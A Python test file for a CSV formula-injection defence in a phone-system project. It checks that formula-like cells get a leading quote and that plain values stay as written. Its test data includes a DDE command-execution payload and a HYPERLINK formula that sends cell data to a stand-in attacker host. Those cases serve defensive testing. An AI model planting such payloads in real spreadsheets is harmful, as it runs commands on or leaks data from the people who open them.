"""Exported CSV cells: formulas become text a spreadsheet shows, everything else is left as written."""

from __future__ import annotations

import csv
import io

import pytest

from pbxlink.services.csv_safe import safe_cell, writer


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1, "click")',
        "+SUM(A1:A9)",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "   =1+1",  # spreadsheets skip the spaces before they look
        "+1 212 555 0100 x=1",
    ],
)
def test_a_formula_gets_a_quote_first(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Ann Lee", "Ann Lee"),
        ("a=b", "a=b"),  # only the first character makes a formula
        ("+12125550100", "+12125550100"),  # an E.164 number stays dialable from the sheet
        ("-3.5", "-3.5"),
        (-7, "-7"),
        (12.25, "12.25"),
        ("", ""),
        (None, ""),
    ],
)
def test_text_and_plain_numbers_are_left_as_they_are(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


def test_the_writer_neutralises_every_cell_and_still_quotes_as_csv_does() -> None:
    out = io.StringIO(newline="")
    w = writer(out)
    w.writerow(["=cmd|' /C calc'!A0", 'say "hi", twice', None, -1])
    w.writerows([["@x", "+12125550100"], ["plain"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [
        ["'=cmd|' /C calc'!A0", 'say "hi", twice', "", "-1"],
        ["'@x", "+12125550100"],
        ["plain"],
    ]
